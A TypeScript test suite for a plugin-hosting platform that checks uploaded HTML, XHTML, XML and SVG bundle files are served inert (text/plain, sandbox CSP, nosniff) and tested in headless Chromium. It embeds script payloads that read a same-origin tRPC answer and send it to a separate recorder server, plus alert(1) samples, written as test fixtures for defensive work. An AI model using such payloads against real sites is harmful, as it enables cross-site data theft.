import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { pluginFolder, publishFields, tarGz, uploadFields, utf8 } from "./archive-fixtures";
import { expectNothingChanged } from "./attack-helpers";
import { mintCast } from "./cast";
import { inBrowser, launchChromium } from "./chromium";
import { expectError, pluginMetadata, publish, trpc, upload } from "./helpers";
import { type Stack, startStack } from "./stack";

/**
 * Bundle files are answered on the platform's origin, beside /api and
 * /trpc, so a published HTML, XHTML, XML or SVG file whose script ran there could read
 * same-origin answers. Each file below carries a script that reads `/trpc/health.check`
 * and reports it; headless Chromium opens each bundle URL of the stack's real HTTP origin
 * and the test proves that no script ran. A control serves the same files with their
 * original types from another server, proving each payload does run when served as such.
 */

const inBrowserSuite = inBrowser("active-content");

const RAN = "active-content: script ran";

/** Logs that it ran, reads a same-origin tRPC answer, logs it and reports it to the recorder. */
function payloadScript(recorder: string): string {
  return `console.log(${JSON.stringify(RAN)});
fetch("/trpc/health.check").then((r) => r.text()).then((answer) => {
  console.log("active-content: read /trpc: " + answer);
  return fetch(${JSON.stringify(`${recorder}/ran?answer=`)} + encodeURIComponent(answer), { mode: "no-cors" });
});`;
}

/** Each active document type with a script in it, and the type a plain file server gives it. */
function activeFiles(recorder: string): Array<{ path: string; originalType: string; body: string }> {
  const script = payloadScript(recorder);
  const html = `<!doctype html><title>page</title><p>hello</p><script>${script}</script>`;
  return [
    { path: "pages/page.html", originalType: "text/html", body: html },
    { path: "pages/page.htm", originalType: "text/html", body: html },
    {
      path: "icons/icon.svg",
      originalType: "image/svg+xml",
      body: `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="red"/><script><![CDATA[${script}]]></script></svg>`,
    },
    {
      path: "pages/page.xhtml",
      originalType: "application/xhtml+xml",
      body: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>page</title><script><![CDATA[${script}]]></script></head><body><p>hello</p></body></html>`,
    },
    {
      path: "data/feed.xml",
      originalType: "application/xml",
      body: `<?xml version="1.0"?><feed><script xmlns="http://www.w3.org/1999/xhtml"><![CDATA[${script}]]></script></feed>`,
    },
  ];
}

let stack: Stack;
let recorder: Server;
let recorderUrl = "";
/** Every `/ran` report the recorder received: a script ran somewhere and read an answer. */
const reports: string[] = [];
/** Files the recorder serves as a plain file server would: path → [type, body]. */
const served = new Map<string, [string, string]>();
let editor = "";

const bundleBase = () => `${stack.url}/plugins/bundles/pages/v1.0.0`;

beforeAll(async () => {
  recorder = createServer((request, response) => {
    const url = new URL(request.url ?? "/", "http://recorder");
    if (url.pathname === "/ran") reports.push(url.searchParams.get("answer") ?? "");
    const file = served.get(url.pathname);
    response.writeHead(file ? 200 : 204, file ? { "content-type": file[0] } : {});
    response.end(file?.[1]);
  });
  await new Promise<void>((resolve) => recorder.listen(0, "127.0.0.1", resolve));
  recorderUrl = `http://127.0.0.1:${(recorder.address() as AddressInfo).port}`;

  stack = await startStack();
  editor = (await mintCast(stack)).alice;
  const files = activeFiles(recorderUrl);
  await publishFields(stack, {
    token: editor,
    file: await tarGz([
      ...pluginFolder({ id: "pages", version: "1.0.0" }),
      ...files.map((file) => ({ path: file.path, bytes: utf8(file.body) })),
      { path: "docs/guide.pdf", bytes: utf8("%PDF-1.4\n%%EOF\n") },
      { path: "docs/notes.txt", bytes: utf8("plain notes\n") },
    ]),
  });
  // An object stored before the content policy existed: R2 metadata says text/html.
  const legacy = files[0];
  if (!legacy) throw new Error("no HTML payload");
  await stack.bucket.put("pages/1.0.0/legacy.html", legacy.body, {
    httpMetadata: { contentType: "text/html; charset=utf-8" },
  });
}, 120_000);

afterAll(async () => {
  await stack?.stop();
  await new Promise((resolve) => recorder?.close(resolve));
});

const CSP = "default-src 'none'; style-src 'unsafe-inline'; sandbox";

describe("the content type and policy of each kind of bundle file", () => {
  it.each([
    ["pages/page.html", "text/plain; charset=utf-8"],
    ["pages/page.htm", "text/plain; charset=utf-8"],
    ["pages/page.xhtml", "text/plain; charset=utf-8"],
    ["data/feed.xml", "text/plain; charset=utf-8"],
    ["legacy.html", "text/plain; charset=utf-8"],
    ["icons/icon.svg", "image/svg+xml; charset=utf-8"],
    ["styles/main.css", "text/css; charset=utf-8"],
    ["index.js.map", "application/json; charset=utf-8"],
    ["logo.png", "image/png"],
    ["docs/notes.txt", "text/plain; charset=utf-8"],
  ])("serves %s as %s in a sandbox, never as a document of the platform's origin", async (path, type) => {
    for (let pass = 0; pass < 2; pass++) {
      // The first answer comes through R2, the second from the gateway's memory.
      const response = await fetch(`${bundleBase()}/${path}`);
      expect(response.status).toBe(200);
      expect(response.headers.get("content-type")).toBe(type);
      expect(response.headers.get("content-security-policy")).toBe(CSP);
      expect(response.headers.get("content-disposition")).toBeNull();
      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
      await response.arrayBuffer();
    }
  });

  it("serves JavaScript as itself, without a CSP that would bind a Web Worker started from it", async () => {
    const response = await fetch(`${bundleBase()}/index.js`);
    expect(response.headers.get("content-type")).toBe("text/javascript; charset=utf-8");
    expect(response.headers.get("content-security-policy")).toBeNull();
    await response.arrayBuffer();
  });

  it("serves an unknown type as a sandboxed download, on HEAD, 304 and 206 answers too", async () => {
    const url = `${bundleBase()}/docs/guide.pdf`;
    const full = await fetch(url);
    const etag = full.headers.get("etag") ?? "";
    await full.arrayBuffer();
    const requests: RequestInit[] = [
      {},
      { method: "HEAD" },
      { headers: { "if-none-match": etag } },
      { headers: { range: "bytes=0-3" } },
    ];
    for (const init of requests) {
      const response = await fetch(url, init);
      expect([200, 206, 304]).toContain(response.status);
      expect(response.headers.get("content-type")).toBe("application/octet-stream");
      expect(response.headers.get("content-disposition")).toBe("attachment");
      expect(response.headers.get("content-security-policy")).toBe(CSP);
      await response.arrayBuffer();
    }
  });

  it("records the served type at publish, in R2 and in the version's file list", async () => {
    const stored = await stack.bucket.head("pages/1.0.0/pages/page.html");
    expect(stored?.httpMetadata?.contentType).toBe("text/plain; charset=utf-8");
    const version = await trpc(stack, editor).versions.get.query({ pluginId: "pages", version: "1.0.0" });
    const types = Object.fromEntries(version.files.map((file) => [file.path, file.contentType]));
    expect(types).toMatchObject({
      "pages/page.html": "text/plain; charset=utf-8",
      "pages/page.xhtml": "text/plain; charset=utf-8",
      "data/feed.xml": "text/plain; charset=utf-8",
      "icons/icon.svg": "image/svg+xml; charset=utf-8",
      "docs/guide.pdf": "application/octet-stream",
      "index.js": "text/javascript; charset=utf-8",
    });
  });
});

inBrowserSuite("headless Chromium opening each bundle URL", () => {
  let browser: Browser;

  beforeAll(async () => {
    browser = await launchChromium();
    for (const file of activeFiles(recorderUrl)) served.set(`/${file.path}`, [file.originalType, file.body]);
  }, 60_000);
  afterAll(() => browser?.close());

  /** Opens a URL in a fresh page and returns what it logged and which /trpc requests it made. */
  async function open(url: string, settle: (page: Page, logged: string[]) => Promise<void>) {
    const page = await browser.newPage();
    const logged: string[] = [];
    const trpcRequests: string[] = [];
    page.on("console", (message) => logged.push(message.text()));
    page.on("request", (request) => {
      if (request.url().includes("/trpc/")) trpcRequests.push(request.url());
    });
    try {
      const response = await page.goto(url, { waitUntil: "load" });
      expect(response?.status()).toBe(200);
      await settle(page, logged);
      return { logged, trpcRequests };
    } finally {
      await page.close();
    }
  }

  const ranWithin = async (_: Page, logged: string[]) => {
    await expect.poll(() => logged, { timeout: 5_000 }).toContain(RAN);
  };
  /** Long enough for a script to fetch /trpc and report, had it run. */
  const settleQuietly = (page: Page) => page.waitForTimeout(750);

  it.each(["page.html", "page.htm", "page.xhtml", "feed.xml", "icon.svg"])(
    "control: %s served with its original type from another server runs its script",
    async (name) => {
      const file = [...served.keys()].find((path) => path.endsWith(`/${name}`));
      const { logged } = await open(`${recorderUrl}${file}`, ranWithin);
      expect(logged).toContain(RAN);
    },
  );

  it.each(["pages/page.html", "pages/page.htm", "pages/page.xhtml", "data/feed.xml", "icons/icon.svg", "legacy.html"])(
    "runs no script of %s opened at its bundle URL, and reads no /trpc answer",
    async (path) => {
      const reported = reports.length;
      for (let pass = 0; pass < 2; pass++) {
        // Once through R2, once from the gateway's memory.
        const { logged, trpcRequests } = await open(`${bundleBase()}/${path}`, settleQuietly);
        expect(logged.filter((line) => line.startsWith("active-content:"))).toEqual([]);
        expect(trpcRequests).toEqual([]);
      }
      expect(reports.slice(reported)).toEqual([]);
    },
  );

  it("still lets a page on another origin import the plugin's entry and show its SVG icon", async () => {
    served.set("/host.html", [
      "text/html",
      `<!doctype html><script type="module">
const plugin = await import(${JSON.stringify(`${bundleBase()}/index.js`)});
console.log("host: activate is a " + typeof plugin.activate);
const icon = new Image();
icon.onload = () => console.log("host: icon " + icon.naturalWidth + "px");
icon.onerror = () => console.log("host: icon failed");
icon.src = ${JSON.stringify(`${bundleBase()}/icons/icon.svg`)};
</script>`,
    ]);
    const { logged } = await open(`${recorderUrl}/host.html`, async (_, lines) => {
      await expect.poll(() => lines.filter((line) => line.startsWith("host:")).length, { timeout: 5_000 }).toBe(2);
    });
    expect(logged).toEqual(expect.arrayContaining(["host: activate is a function", "host: icon 10px"]));
    expect(logged).not.toContain(RAN);
  });
});

describe("an entry must be a JavaScript module", () => {
  it.each(["pages/page.html", "icons/icon.svg", "index.js.map", "styles/main.css", "lib.cjs"])(
    "refuses an archive whose plugin.json names %s as its entry (400 naming entry), storing nothing",
    async (entry) => {
      const folder = pluginFolder({ id: "bad-entry", version: "1.0.0", entry });
      const files = folder.some((file) => file.path === entry)
        ? folder
        : [...folder, { path: entry, bytes: utf8("<script>alert(1)</script>") }];
      await expectNothingChanged(stack, async () => {
        const response = await uploadFields(stack, { token: editor, file: await tarGz(files) });
        const message = await expectError(response, 400, "BAD_REQUEST");
        expect(message).toContain("plugin.json.entry: must be a JavaScript module");
      });
    },
  );

  it("refuses a single file whose metadata names page.html as its entry (400 naming metadata.entry)", async () => {
    await expectNothingChanged(stack, async () => {
      const response = await upload(stack, {
        token: editor,
        metadata: pluginMetadata({ id: "html-entry", entry: "page.html" }),
        file: "<script>alert(1)</script>",
      });
      const message = await expectError(response, 400, "BAD_REQUEST");
      expect(message).toContain("metadata.entry: must be a JavaScript module, a path ending in .js or .mjs");
    });
  });

  it("keeps single files working: bundle.js by default, or an .mjs entry, served as JavaScript", async () => {
    const byDefault = await publish(stack, editor, pluginMetadata({ id: "plain-single" }));
    expect(byDefault.entry).toBe("bundle.js");
    const named = await publish(stack, editor, pluginMetadata({ id: "named-single", entry: "main.mjs" }));
    expect(named.entry).toBe("main.mjs");
    const response = await fetch(`${stack.url}${new URL(named.bundleUrl).pathname}`);
    expect(response.headers.get("content-type")).toBe("text/javascript; charset=utf-8");
    await response.arrayBuffer();
  });
});

describe("files a browser would render actively are served inert, by their headers alone", () => {
  const ACTIVE = [
    ["page.html", "<script>fetch('/trpc/health.check')</script>"],
    ["upper/PAGE.HTML", "<script>1</script>"],
    ["page.htm", "<script>1</script>"],
    ["page.shtml", "<script>1</script>"],
    ["page.xhtml", '<html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>'],
    ["page.xht", '<html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>'],
    ["feed.xml", '<a><script xmlns="http://www.w3.org/1999/xhtml">1</script></a>'],
    ["style.xsl", '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/>'],
    ["doc.rdf", "<rdf/>"],
    ["page.mht", "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>1</script>"],
    ["doc.pdf", "%PDF-1.4\n%%EOF\n"],
    ["no-extension", "<script>1</script>"],
    ["icon.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'],
  ] as const;
  /** What a browser may render as a document of the serving origin, running its script. */
  const RENDERED_ACTIVELY = /^(text\/html|application\/(xhtml\+xml|xml|xslt\+xml|rdf\+xml|pdf)|text\/xml|message\/)/;

  beforeAll(async () => {
    const files = [
      ...pluginFolder({ id: "active-content", version: "1.0.0" }),
      ...ACTIVE.map(([path, body]) => ({ path: `files/${path}`, bytes: utf8(body) })),
    ];
    await publishFields(stack, { token: editor, file: await tarGz(files) });
  });

  it.each(ACTIVE.map(([path]) => path))("files/%s: no active type, the sandbox CSP, nosniff", async (path) => {
    const response = await fetch(`${stack.url}/plugins/bundles/active-content/v1.0.0/files/${path}`);
    await response.arrayBuffer();
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).not.toMatch(RENDERED_ACTIVELY);
    expect(response.headers.get("content-security-policy")).toBe(
      "default-src 'none'; style-src 'unsafe-inline'; sandbox",
    );
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
  });

  it("an object planted in R2 with an active type is served inert all the same", async () => {
    await stack.bucket.put("active-content/1.0.0/planted.html", "<script>1</script>", {
      httpMetadata: { contentType: "application/xhtml+xml" },
    });
    const response = await fetch(`${stack.url}/plugins/bundles/active-content/v1.0.0/planted.html`);
    await response.arrayBuffer();
    expect(response.headers.get("content-type")).toBe("text/plain; charset=utf-8");
    expect(response.headers.get("content-security-policy")).toContain("sandbox");
  });
});
